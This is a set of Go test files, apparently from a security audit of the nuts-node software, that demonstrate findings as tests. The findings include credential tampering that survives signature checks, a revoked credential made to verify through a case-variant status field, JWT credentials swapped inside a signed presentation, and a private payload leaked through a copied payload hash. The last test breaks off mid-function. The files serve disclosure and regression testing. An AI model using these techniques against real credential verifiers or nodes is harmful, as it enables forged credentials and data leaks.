		for _, n := range []*simNode{a, b} {
			xor, clock := n.state.XOR(dag.MaxLamportClock)
			require.NoError(t, n.p.sendGossipMsg(n.conn, nil, xor, clock))
		}
		a.drain(t, b)
		b.drain(t, a)
		deliverAll()
	}

	for _, ref := range sRefs {
		present, err := b.state.IsPresent(context.Background(), ref)
		require.NoError(t, err)
		if !present {
			t.Errorf("B never received %d of the %d transactions of A (B has %d, union is %d)", union-b.numTX(t), len(sRefs), b.numTX(t), union)
			break
		}
	}
}

// ---- harness: two real protocol instances with real DAG states, connected by an in-memory, in-order, lossless link ----

type simNode struct {
	name  string
	p     *protocol
	state dag.State
	conn  *grpc.StubConnection // connection to the other node
	inbox []*Envelope
	count int
}

func newSimNode(t *testing.T, name string, other string) *simNode {
	dir := path.Join(io.TestDirectory(t), name)
	db := storage.CreateTestBBoltStore(t, path.Join(dir, "dag.db"))
	state, err := dag.NewState(db, dag.NewPrevTransactionsVerifier())
	require.NoError(t, err)
	require.NoError(t, state.Configure(core.ServerConfig{}))
	p := New(DefaultConfig(), did.DID{}, state, nil, nil, nil, db).(*protocol)
	p.cMan = newConversationManager(time.Hour)
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	p.ctx = ctx
	p.gManager = gossip.NewManager(ctx, time.Hour)
	peer := transport.Peer{ID: transport.PeerID(other), Address: other + ":5555"}
	p.gManager.PeerConnected(peer, hash.EmptyHash(), 0)
	return &simNode{name: name, p: p, state: state, conn: grpc.NewStubConnection(peer)}
}

func (n *simNode) add(t *testing.T, tx dag.Transaction, payload []byte) {
	require.NoError(t, n.state.Add(context.Background(), tx, payload))
	n.count++
}

// wire roundtrip
func roundtrip(t *testing.T, in interface{}) *Envelope {
	data, err := proto.Marshal(in.(*Envelope))
	require.NoError(t, err)
	if len(data) > grpc.MaxMessageSizeInBytes {
		t.Logf("message too large: %d", len(data))
		return nil
	}
	out := &Envelope{}
	require.NoError(t, proto.Unmarshal(data, out))
	return out
}

// drain moves messages sent by n to the inbox of other
func (n *simNode) drain(t *testing.T, other *simNode) {
	for _, m := range n.conn.SentMsgs {
		if e := roundtrip(t, m); e != nil {
			other.inbox = append(other.inbox, e)
		}
	}
	n.conn.SentMsgs = nil
}

func (n *simNode) deliver(t *testing.T, env *Envelope, trace bool) {
	ctx := context.Background()
	var err error
	switch env.Message.(type) {
	case *Envelope_Gossip:
		err = n.p.handleGossip(ctx, n.conn, env)
	case *Envelope_TransactionList:
		err = n.p.handleTransactionList(ctx, n.conn, env)
	case *Envelope_TransactionListQuery:
		err = n.p.handleTransactionListQuery(ctx, n.conn, env)
	case *Envelope_TransactionRangeQuery:
		err = n.p.handleTransactionRangeQuery(ctx, n.conn, env)
	case *Envelope_State:
		err = n.p.handleState(ctx, n.conn, env)
	case *Envelope_TransactionSet:
		err = n.p.handleTransactionSet(ctx, n.conn, env)
	default:
		t.Fatalf("unexpected %T", env.Message)
	}
	if trace {
		t.Logf("  %s handled %s err=%v", n.name, describe(env), err)
	}
}

func describe(env *Envelope) string {
	switch m := env.Message.(type) {
	case *Envelope_Gossip:
		return fmt.Sprintf("Gossip(lc=%d refs=%d)", m.Gossip.LC, len(m.Gossip.Transactions))
	case *Envelope_TransactionList:
		return fmt.Sprintf("TransactionList(%d/%d txs=%d)", m.TransactionList.MessageNumber, m.TransactionList.TotalMessages, len(m.TransactionList.Transactions))
	case *Envelope_TransactionListQuery:
		return fmt.Sprintf("TransactionListQuery(refs=%d)", len(m.TransactionListQuery.Refs))
	case *Envelope_TransactionRangeQuery:
		return fmt.Sprintf("RangeQuery(%d,%d)", m.TransactionRangeQuery.Start, m.TransactionRangeQuery.End)
	case *Envelope_State:
		return fmt.Sprintf("State(lc=%d)", m.State.LC)
	case *Envelope_TransactionSet:
		return fmt.Sprintf("TransactionSet(lcreq=%d lc=%d)", m.TransactionSet.LCReq, m.TransactionSet.LC)
	}
	return "?"
}

func (n *simNode) numTX(t *testing.T) int {
	txs, err := n.state.FindBetweenLC(context.Background(), 0, dag.MaxLamportClock)
	require.NoError(t, err)
	return len(txs)
}

func (n *simNode) expireConversations() {
	n.p.cMan.mutex.Lock()
	defer n.p.cMan.mutex.Unlock()
	for _, c := range n.p.cMan.conversations {
		c.expiry = time.Now().Add(-time.Second)
	}
}

func payloadOf(i uint32) []byte {
	return []byte{byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)}
}
