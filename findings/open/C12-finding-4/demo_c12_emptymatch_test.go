package pe

import (
	"encoding/json"
	"testing"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Demo for C12 finding 4: a JSONPath that selects nothing (filter expression, wildcard or recursive descent without
// results) yields an empty list instead of "not found". matchField only treats nil as "not found",
// so the field is considered to be present: credentials that lack the required property are selected by the wallet
// and accepted by the verifier.
func TestDemoC12_JSONPathWithoutResultsSatisfiesField(t *testing.T) {
	holder := did.MustParseDID("did:example:holder")
	credential := func(id string, qualifications ...interface{}) vc.VerifiableCredential {
		credentialID := ssi.MustParseURI(id)
		return credentialToJSONLD(vc.VerifiableCredential{
			ID:   &credentialID,
			Type: []ssi.URI{ssi.MustParseURI("VerifiableCredential")},
			CredentialSubject: []interface{}{map[string]interface{}{
				"id":             holder.String(),
				"qualifications": qualifications,
			}},
		})
	}
	nurse := credential("did:example:issuer#nurse", map[string]interface{}{"code": "janitor"}, map[string]interface{}{"code": "nurse"})
	janitor := credential("did:example:issuer#janitor", map[string]interface{}{"code": "janitor"})

	paths := map[string]string{
		"filter expression": `$.credentialSubject.qualifications[?(@.code==\"nurse\")]`,
		"wildcard":          `$.credentialSubject.qualifications[*].bigRegistration`,
		"recursive descent": `$..bigRegistration`,
	}
	for name, path := range paths {
		t.Run(name, func(t *testing.T) {
			// The holder must have the qualification 'nurse' (resp. a qualification with a BIG registration).
			definition, err := ParsePresentationDefinition([]byte(`{
              "id":"pd",
              "input_descriptors":[{
                "id":"qualification",
                "constraints":{"fields":[{"id":"qualification","path":["` + path + `"]}]}
              }]}`))
			require.NoError(t, err)

			if name == "filter expression" {
				t.Run("sanity check: credential with the qualification matches", func(t *testing.T) {
					selected, _, err := definition.Match([]vc.VerifiableCredential{janitor, nurse})
					require.NoError(t, err)
					require.Len(t, selected, 1)
					assert.Equal(t, nurse.ID.String(), selected[0].ID.String())
				})
			}
			t.Run("wallet reports it has no matching credential", func(t *testing.T) {
				selected, _, err := definition.Match([]vc.VerifiableCredential{janitor})
				assert.ErrorIs(t, err, ErrNoCredentials)
				assert.Empty(t, selected)
			})
			t.Run("verifier rejects a credential without the required property", func(t *testing.T) {
				presentation := vc.VerifiablePresentation{
					VerifiableCredential: []vc.VerifiableCredential{janitor},
					Proof:                []interface{}{proof.LDProof{VerificationMethod: ssi.MustParseURI(holder.String() + "#key")}},
				}
				presentationJSON, _ := json.Marshal(presentation)
				envelope, err := ParseEnvelope(presentationJSON)
				require.NoError(t, err)
				submission := PresentationSubmission{
					Id:           "1",
					DefinitionId: definition.Id,
					DescriptorMap: []InputDescriptorMappingObject{
						{Id: "qualification", Format: "ldp_vc", Path: "$.verifiableCredential"},
					},
				}
				_, err = submission.Validate(*envelope, *definition)
				assert.Error(t, err)
			})
		})
	}
}
