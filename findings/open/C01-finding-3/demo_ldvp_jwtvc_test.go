package verifier

// Demo for audit finding C01/finding-3.
//
// A JSON-LD presentation (ldp_vp) can carry JWT credentials (jwt_vc): the wallet/presenter of the node creates these when
// asked for the ldp_vp format while the wallet contains JWT credentials, and the verifier accepts them.
// In the JSON-LD document such a credential is a string. The VC context defines "verifiableCredential" as
// {"@type": "@id", "@container": "@graph"}, so the string is interpreted as a (relative) IRI naming an empty graph:
// only the *number* of credentials ends up in the RDF dataset that is signed, not their contents.
// So, after the holder signed the presentation, the JWT credentials in it can be replaced without invalidating the proof.

import (
	"context"
	"crypto"
	"encoding/json"
	"path"
	"testing"
	"time"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	testIO "github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/signature"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/nuts-foundation/nuts-node/vcr/trust"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

type demoF3KeyResolver map[string]crypto.PublicKey

func (d demoF3KeyResolver) ResolveKeyByID(keyID string, _ *resolver.ResolveMetadata, _ resolver.RelationType) (crypto.PublicKey, error) {
	if key, ok := d[keyID]; ok {
		return key, nil
	}
	return nil, resolver.ErrKeyNotFound
}

func (d demoF3KeyResolver) ResolveKey(_ did.DID, _ *time.Time, _ resolver.RelationType) (string, crypto.PublicKey, error) {
	return "", nil, resolver.ErrKeyNotFound
}

func TestDemoF3_JWTCredentialInJSONLDPresentationCanBeReplaced(t *testing.T) {
	const issuerDID = "did:nuts:4tzMaWfpizVKeA8fscC3JTdWBc3asUWWMj5hUFHdWX3H"
	const holderDID = "did:nuts:B8PUHs2AUHbFF1xLLK4eZjgErEcMXHxs68FteY7NDtCY"
	const issuerKID = issuerDID + "#key-1"
	const holderKID = holderDID + "#key-1"
	ctx := audit.TestContext()
	ctrl := gomock.NewController(t)
	jsonldManager := jsonld.NewTestJSONLDManager(t)
	keyStore := nutsCrypto.NewMemoryCryptoInstance(t)
	_, issuerKey, err := keyStore.New(ctx, nutsCrypto.StringNamingFunc(issuerKID))
	require.NoError(t, err)
	_, holderKey, err := keyStore.New(ctx, nutsCrypto.StringNamingFunc(holderKID))
	require.NoError(t, err)

	// a real verifier; only DID resolution and the (empty) revocation store are stubbed
	didResolver := resolver.NewMockDIDResolver(ctrl)
	didResolver.EXPECT().Resolve(gomock.Any(), gomock.Any()).Return(&did.Document{}, &resolver.DocumentMetadata{}, nil).AnyTimes()
	store := NewMockStore(ctrl)
	store.EXPECT().GetRevocations(gomock.Any()).Return(nil, ErrNotFound).AnyTimes()
	instance := NewVerifier(store, didResolver, demoF3KeyResolver{issuerKID: issuerKey, holderKID: holderKey}, jsonldManager,
		trust.NewConfig(path.Join(testIO.TestDirectory(t), "trust.yaml")), revocation.NewStatusList2021(orm.NewTestDatabase(t), nil, ""))

	// The issuer issued 2 JWT credentials to the holder: one says the holder is a nurse, the other that the holder is a surgeon.
	issueJWT := func(id string, role string) vc.VerifiableCredential {
		credentialID := ssi.MustParseURI(issuerDID + "#" + id)
		template := vc.VerifiableCredential{
			Context:      []ssi.URI{vc.VCContextV1URI(), ssi.MustParseURI("https://nuts.nl/credentials/v1")},
			ID:           &credentialID,
			Type:         []ssi.URI{vc.VerifiableCredentialTypeV1URI(), ssi.MustParseURI("NutsEmployeeCredential")},
			Issuer:       ssi.MustParseURI(issuerDID),
			IssuanceDate: time.Now().Add(-time.Hour).Truncate(time.Second),
			CredentialSubject: []interface{}{map[string]interface{}{
				"id":     holderDID,
				"member": map[string]interface{}{"roleName": role},
			}},
		}
		result, err := vc.CreateJWTVerifiableCredential(ctx, template, func(ctx context.Context, claims map[string]interface{}, headers map[string]interface{}) (string, error) {
			return keyStore.SignJWT(ctx, claims, headers, issuerKID)
		})
		require.NoError(t, err)
		return *result
	}
	nurseCredential := issueJWT("c4199b74-0c0a-4e09-a463-6927553e65f5", "nurse")
	surgeonCredential := issueJWT("6b585f85-ce8f-4aa6-9ebe-4ef56f011a4d", "surgeon")

	// The holder presents the "nurse" credential in a JSON-LD presentation, the same way holder.presenter.buildJSONLDPresentation does.
	holderURI := ssi.MustParseURI(holderDID)
	unsignedVP := vc.VerifiablePresentation{
		Context:              []ssi.URI{vc.VCContextV1URI(), signature.JSONWebSignature2020Context},
		Type:                 []ssi.URI{vc.VerifiablePresentationTypeV1URI()},
		Holder:               &holderURI,
		VerifiableCredential: []vc.VerifiableCredential{nurseCredential},
	}
	documentBytes, err := unsignedVP.MarshalJSON()
	require.NoError(t, err)
	var document proof.Document
	require.NoError(t, json.Unmarshal(documentBytes, &document))
	challenge := "challenge-of-the-verifier"
	domain := "https://verifier.example.com"
	signed, err := proof.NewLDProof(proof.ProofOptions{Created: time.Now().Add(-time.Minute), Challenge: &challenge, Domain: &domain}).
		Sign(ctx, document, signature.JSONWebSignature2020{ContextLoader: jsonldManager.DocumentLoader(), Signer: keyStore}, holderKID)
	require.NoError(t, err)
	signedJSON, _ := json.Marshal(signed)

	// sanity check: the presentation is valid, and presents the "nurse" credential
	presentation, err := vc.ParseVerifiablePresentation(string(signedJSON))
	require.NoError(t, err)
	credentials, err := instance.VerifyVP(*presentation, true, true, nil)
	if err != nil {
		// A node that does not accept JWT credentials in a JSON-LD presentation at all is not vulnerable: nothing left to tamper with.
		t.Logf("JSON-LD presentation with JWT credential is not accepted: %s", err)
		return
	}
	require.Len(t, credentials, 1)
	require.Equal(t, nurseCredential.Raw(), credentials[0].Raw())

	// Somebody else (who does not have the holder's key) replaces the credential in the signed presentation.
	tampered := map[string]interface{}{}
	require.NoError(t, json.Unmarshal(signedJSON, &tampered))
	tampered["verifiableCredential"] = surgeonCredential.Raw()
	tamperedJSON, _ := json.Marshal(tampered)
	tamperedPresentation, err := vc.ParseVerifiablePresentation(string(tamperedJSON))
	require.NoError(t, err)

	credentials, err = instance.VerifyVP(*tamperedPresentation, true, true, nil)

	if assert.Error(t, err, "PROPERTY VIOLATED: the embedded credential of a signed presentation was replaced, but the presentation still verifies") {
		return
	}
	t.Logf("the holder signed a presentation of credential %s, the node reports a valid presentation of credential %s", nurseCredential.ID, credentials[0].ID)
}
