package verifier

// Demo for audit finding C01/finding-2.
//
// A JSON-LD proof only covers members that are defined by the document's @context: JSON-LD expansion silently drops
// all other members. The issuer of the node refuses to sign such members (jsonld.AllFieldsDefined), but the verifier
// does not refuse them. So anybody can add members to the free-form parts of a validly signed credential
// (credentialSubject, credentialStatus) without invalidating the proof, while the node reports and acts upon them:
//   - an added claim is reported as part of the verified credential,
//   - Go's encoding/json matches member names case-insensitively and the last one wins, so an added (undefined)
//     "statuslistindex" member overrides the signed "statusListIndex" when the node checks the revocation status.

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"path"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	testIO "github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/signature"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/nuts-foundation/nuts-node/vcr/trust"
	"github.com/nuts-foundation/nuts-node/vcr/types"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

const (
	demoF2Issuer        = "did:nuts:4tzMaWfpizVKeA8fscC3JTdWBc3asUWWMj5hUFHdWX3H"
	demoF2KID           = demoF2Issuer + "#key-1"
	demoF2CredentialID  = demoF2Issuer + "#d2aa8189-db59-4dad-a3e5-60ca54f8fcc0"
	demoF2StatusListURL = "https://issuer.example.com/statuslist/1"
	demoF2RevokedIndex  = 5
)

// demoF2KeyResolver resolves exactly one key: the issuer's assertion key.
type demoF2KeyResolver struct {
	kid string
	key crypto.PublicKey
}

func (d demoF2KeyResolver) ResolveKeyByID(keyID string, _ *resolver.ResolveMetadata, _ resolver.RelationType) (crypto.PublicKey, error) {
	if keyID != d.kid {
		return nil, resolver.ErrKeyNotFound
	}
	return d.key, nil
}

func (d demoF2KeyResolver) ResolveKey(_ did.DID, _ *time.Time, _ resolver.RelationType) (string, crypto.PublicKey, error) {
	return d.kid, d.key, nil
}

// demoF2HTTPClient serves the StatusList2021Credential.
type demoF2HTTPClient struct {
	documents map[string]string
}

func (d demoF2HTTPClient) Do(req *http.Request) (*http.Response, error) {
	body, ok := d.documents[req.URL.String()]
	if !ok {
		return &http.Response{StatusCode: http.StatusNotFound, Body: io.NopCloser(bytes.NewReader(nil))}, nil
	}
	return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(bytes.NewReader([]byte(body)))}, nil
}

type demoF2Env struct {
	verifier Verifier
	sign     func(t *testing.T, documentJSON string) string
}

// demoF2Setup creates a real verifier (real JSON-LD processing, real signature verification, real StatusList2021 verification).
// Only DID resolution, the (empty) revocation store and the HTTP transport are stubbed.
func demoF2Setup(t *testing.T) demoF2Env {
	ctx := audit.TestContext()
	ctrl := gomock.NewController(t)
	jsonldManager := jsonld.NewTestJSONLDManager(t)
	keyStore := nutsCrypto.NewMemoryCryptoInstance(t)
	_, publicKey, err := keyStore.New(ctx, nutsCrypto.StringNamingFunc(demoF2KID))
	require.NoError(t, err)

	sign := func(t *testing.T, documentJSON string) string {
		document := map[string]interface{}{}
		require.NoError(t, json.Unmarshal([]byte(documentJSON), &document))
		suite := signature.JSONWebSignature2020{ContextLoader: jsonldManager.DocumentLoader(), Signer: keyStore}
		created := time.Date(2021, 12, 24, 13, 21, 29, 0, time.UTC)
		signed, err := proof.NewLDProof(proof.ProofOptions{Created: created}).Sign(ctx, document, suite, demoF2KID)
		require.NoError(t, err)
		result, _ := json.Marshal(signed)
		return string(result)
	}

	// The issuer's status list, in which the credential's index is set (=revoked).
	bits := make([]byte, 16*1024)
	bits[demoF2RevokedIndex/8] |= 1 << (7 - demoF2RevokedIndex%8)
	var compressed bytes.Buffer
	gz := gzip.NewWriter(&compressed)
	_, _ = gz.Write(bits)
	_ = gz.Close()
	statusListCredential := sign(t, `{
  "@context": ["https://www.w3.org/2018/credentials/v1", "https://w3id.org/vc/status-list/2021/v1"],
  "id": "`+demoF2StatusListURL+`",
  "type": ["VerifiableCredential", "StatusList2021Credential"],
  "issuer": "`+demoF2Issuer+`",
  "issuanceDate": "2021-12-24T13:21:29Z",
  "credentialSubject": {
    "id": "`+demoF2StatusListURL+`",
    "type": "StatusList2021",
    "statusPurpose": "revocation",
    "encodedList": "`+base64.RawURLEncoding.EncodeToString(compressed.Bytes())+`"
  }
}`)

	didResolver := resolver.NewMockDIDResolver(ctrl)
	didResolver.EXPECT().Resolve(did.MustParseDID(demoF2Issuer), gomock.Any()).Return(&did.Document{}, &resolver.DocumentMetadata{}, nil).AnyTimes()
	store := NewMockStore(ctrl)
	store.EXPECT().GetRevocations(gomock.Any()).Return(nil, ErrNotFound).AnyTimes()
	statusList := revocation.NewStatusList2021(orm.NewTestDatabase(t), demoF2HTTPClient{documents: map[string]string{demoF2StatusListURL: statusListCredential}}, "")
	trustConfig := trust.NewConfig(path.Join(testIO.TestDirectory(t), "trust.yaml"))
	instance := NewVerifier(store, didResolver, demoF2KeyResolver{kid: demoF2KID, key: publicKey}, jsonldManager, trustConfig, statusList)
	return demoF2Env{verifier: instance, sign: sign}
}

func demoF2Parse(t *testing.T, document map[string]interface{}) vc.VerifiableCredential {
	data, err := json.Marshal(document)
	require.NoError(t, err)
	result, err := vc.ParseVerifiableCredential(string(data))
	require.NoError(t, err)
	return *result
}

func demoF2Verify(t *testing.T, instance Verifier, credential vc.VerifiableCredential) error {
	t.Helper()
	var err error
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer func() {
			if r := recover(); r != nil {
				err = errors.New("panic")
			}
		}()
		// allowUntrusted=true: trust is not what this demo is about. checkSignature=true, validAt=now.
		err = instance.Verify(credential, true, true, nil)
	}()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("timeout")
	}
	return err
}

func demoF2OrganizationCredential(withStatus bool) string {
	status := ""
	contexts := `"https://www.w3.org/2018/credentials/v1", "https://nuts.nl/credentials/v1"`
	if withStatus {
		contexts += `, "https://w3id.org/vc/status-list/2021/v1"`
		status = `,
  "credentialStatus": {
    "id": "` + demoF2StatusListURL + `#5",
    "type": "StatusList2021Entry",
    "statusPurpose": "revocation",
    "statusListIndex": "5",
    "statusListCredential": "` + demoF2StatusListURL + `"
  }`
	}
	return `{
  "@context": [` + contexts + `],
  "id": "` + demoF2CredentialID + `",
  "type": ["NutsOrganizationCredential", "VerifiableCredential"],
  "issuer": "` + demoF2Issuer + `",
  "issuanceDate": "2021-12-24T13:21:29Z",
  "credentialSubject": {
    "id": "did:nuts:B8PUHs2AUHbFF1xLLK4eZjgErEcMXHxs68FteY7NDtCY",
    "organization": {"name": "CareBears", "city": "Caretown"}
  }` + status + `
}`
}

func TestDemoF2_AddedClaimIsReportedAsVerified(t *testing.T) {
	env := demoF2Setup(t)
	signedJSON := env.sign(t, demoF2OrganizationCredential(false))

	// sanity check: the credential is valid
	original := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &original))
	require.NoError(t, demoF2Verify(t, env.verifier, demoF2Parse(t, original)))

	// Somebody without access to the issuer's key adds claims to the credential.
	tampered := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &tampered))
	credentialSubject := tampered["credentialSubject"].(map[string]interface{})
	credentialSubject["role"] = "administrator"
	credentialSubject["organization"].(map[string]interface{})["ura"] = "00000001"
	tamperedCredential := demoF2Parse(t, tampered)
	t.Logf("tampered credential: %s", func() string { b, _ := json.Marshal(tamperedCredential); return string(b) }())

	err := demoF2Verify(t, env.verifier, tamperedCredential)

	assert.Error(t, err, "PROPERTY VIOLATED: members were added to the credentialSubject of a signed credential "+
		"(claims the node reports: API output, search index, presentation definition matching), but it still verifies")
}

func TestDemoF2_RevokedCredentialVerifiesAfterAddingCaseVariantOfStatusListIndex(t *testing.T) {
	env := demoF2Setup(t)
	signedJSON := env.sign(t, demoF2OrganizationCredential(true))

	// sanity check: the credential is authentic, but revoked
	original := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &original))
	require.ErrorIs(t, demoF2Verify(t, env.verifier, demoF2Parse(t, original)), types.ErrRevoked, "credential should be revoked")

	// The holder adds a member that JSON-LD does not know (so it is not covered by the proof),
	// but that Go's encoding/json maps onto StatusList2021Entry.StatusListIndex (case-insensitive match, last one wins).
	tampered := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &tampered))
	tampered["credentialStatus"].(map[string]interface{})["statuslistindex"] = "6"
	tamperedCredential := demoF2Parse(t, tampered)
	t.Logf("tampered credential: %s", func() string { b, _ := json.Marshal(tamperedCredential); return string(b) }())

	err := demoF2Verify(t, env.verifier, tamperedCredential)

	assert.Error(t, err, "PROPERTY VIOLATED: a revoked credential is reported as valid after a member was added to its "+
		"credentialStatus that makes the node look at another status list index")
}

var _ = context.Background
