package v2

import (
	"context"
	"crypto/ecdsa"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/network/transport"
	"github.com/nuts-foundation/nuts-node/network/transport/grpc"
	"github.com/nuts-foundation/nuts-node/network/transport/v2/gossip"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC15_PrivatePayloadLeaksThroughCopiedPayloadHash shows that an authenticated peer that is NOT on the
// participant list of a private transaction T1 obtains T1's payload from a participant.
//
// Payloads are stored and served by payload hash only. The payload hash of T1 is public (it is a header of T1, which
// every node receives). The attacker publishes a transaction T2 of his own that carries the same payload hash and a PAL
// that he made himself (encrypted with the public keyAgreement key of the victim, listing the attacker). The victim
// accepts T2 without a payload (it is "private"), and answers the TransactionPayloadQuery for T2 with the payload of T1.
//
// Everything below is real code: dag.State on bbolt with the production verifiers, real ECIES encryption/decryption of
// the PAL and the real v2 message handlers/senders. Only the DID resolver (returns the victim's DID document) and the
// network connection (records the messages sent to the attacker) are test doubles.
func TestDemoC15_PrivatePayloadLeaksThroughCopiedPayloadHash(t *testing.T) {
	ctx := context.Background()
	victimDID := did.MustParseDID("did:nuts:victim")
	partnerDID := did.MustParseDID("did:nuts:partner")   // the only other participant of T1
	attackerDID := did.MustParseDID("did:nuts:attacker") // authenticated node, not a participant of T1

	// --- the victim node -------------------------------------------------------------------------------------------
	keyStore := nutsCrypto.NewMemoryCryptoInstance(t)
	kakID := victimDID.String() + "#kak"
	_, kakPublic, err := keyStore.New(audit.TestContext(), nutsCrypto.StringNamingFunc(kakID))
	require.NoError(t, err)
	victimKAK := kakPublic.(*ecdsa.PublicKey) // public: it is in the victim's DID document

	ctrl := gomock.NewController(t)
	didResolver := resolver.NewMockDIDResolver(ctrl)
	didResolver.EXPECT().Resolve(victimDID, nil).AnyTimes().Return(&did.Document{
		ID: victimDID,
		KeyAgreement: []did.VerificationRelationship{
			{VerificationMethod: &did.VerificationMethod{ID: did.MustParseDIDURL(kakID)}},
		},
	}, nil, nil)

	dagStore, err := storage.NewTestStorageEngine(t).GetProvider("network").GetKVStore("data", storage.PersistentStorageClass)
	require.NoError(t, err)
	// the verifiers network.Network installs; no key needs to be resolved since the test transactions embed their JWK
	state, err := dag.NewState(dagStore, dag.NewPrevTransactionsVerifier(), dag.NewTransactionSignatureVerifier(nil))
	require.NoError(t, err)
	require.NoError(t, state.Start())
	t.Cleanup(func() { _ = state.Shutdown() })

	p := New(DefaultConfig(), victimDID, state, didResolver, keyStore, nil, dagStore).(*protocol)
	t.Cleanup(p.cancel)
	p.cMan = newConversationManager(time.Minute)
	p.gManager = gossip.NewManager(p.ctx, time.Hour)

	// --- T1: private transaction for {victim, partner}, the victim has its payload ---------------------------------
	const payloadNum = 0x53435254 // dag.CreateSignedTestTransaction uses these 4 bytes as payload
	secretPayload := []byte{0x53, 0x43, 0x52, 0x54}
	root := dag.CreateSignedTestTransaction(1, time.Now(), nil, "application/did+json", true)
	require.NoError(t, state.Add(ctx, root, []byte{0, 0, 0, 1}))
	palT1Plain := []byte(victimDID.String() + "\n" + partnerDID.String())
	palT1, err := nutsCrypto.EciesEncrypt(victimKAK, palT1Plain)
	require.NoError(t, err)
	t1 := dag.CreateSignedTestTransaction(payloadNum, time.Now(), [][]byte{palT1}, "application/vc+json", true, root)
	require.Equal(t, hash.SHA256Sum(secretPayload), t1.PayloadHash())
	require.NoError(t, state.Add(ctx, t1, secretPayload))

	// sanity: the attacker, asking for T1 itself, gets nothing
	attacker := grpc.NewStubConnection(transport.Peer{ID: "attacker", Address: "attacker:5555", NodeDID: attackerDID, Authenticated: true})
	require.NoError(t, p.handleTransactionPayloadQuery(ctx, attacker, &Envelope{Message: &Envelope_TransactionPayloadQuery{
		TransactionPayloadQuery: &TransactionPayloadQuery{TransactionRef: t1.Ref().Slice()}}}))
	require.Len(t, attacker.SentMsgs, 1)
	require.Empty(t, attacker.SentMsgs[0].(*Envelope).GetTransactionPayload().Data, "sanity check")
	attacker.SentMsgs = nil

	// --- the attack ------------------------------------------------------------------------------------------------
	// T2: made by the attacker. Same payload hash as T1 (public information), PAL made by the attacker:
	// encrypted with the victim's public keyAgreement key, listing the attacker (and, for good measure, the victim).
	palT2, err := nutsCrypto.EciesEncrypt(victimKAK, []byte(attackerDID.String()+"\n"+victimDID.String()))
	require.NoError(t, err)
	t2 := dag.CreateSignedTestTransaction(payloadNum, time.Now(), [][]byte{palT2}, "application/vc+json", true, t1)
	require.Equal(t, t1.PayloadHash(), t2.PayloadHash())
	require.NotEqual(t, t1.Ref(), t2.Ref())

	// 1. attacker gossips T2 (his DAG = the victim's DAG + T2), the victim asks for it
	victimXOR, _ := state.XOR(dag.MaxLamportClock)
	require.NoError(t, p.handleGossip(ctx, attacker, &Envelope{Message: &Envelope_Gossip{Gossip: &Gossip{
		XOR: victimXOR.Xor(t2.Ref()).Slice(), LC: t2.Clock(), Transactions: [][]byte{t2.Ref().Slice()}}}}))
	require.Len(t, attacker.SentMsgs, 1)
	query := attacker.SentMsgs[0].(*Envelope).GetTransactionListQuery()
	require.NotNil(t, query, "victim should have asked for the gossiped transaction")
	attacker.SentMsgs = nil

	// 2. attacker answers with T2, without payload (he does not have it, and a private TX does not need one)
	require.NoError(t, p.handleTransactionList(ctx, attacker, &Envelope{Message: &Envelope_TransactionList{TransactionList: &TransactionList{
		ConversationID: query.ConversationID,
		Transactions:   []*Transaction{{Data: t2.Data()}},
		TotalMessages:  1,
		MessageNumber:  1,
	}}}))
	present, err := state.IsPresent(ctx, t2.Ref())
	require.NoError(t, err)
	require.True(t, present, "victim accepted T2")

	// 3. attacker asks for the payload of T2
	require.NoError(t, p.handleTransactionPayloadQuery(ctx, attacker, &Envelope{Message: &Envelope_TransactionPayloadQuery{
		TransactionPayloadQuery: &TransactionPayloadQuery{TransactionRef: t2.Ref().Slice()}}}))
	require.Len(t, attacker.SentMsgs, 1)
	response := attacker.SentMsgs[0].(*Envelope).GetTransactionPayload()
	require.NotNil(t, response)

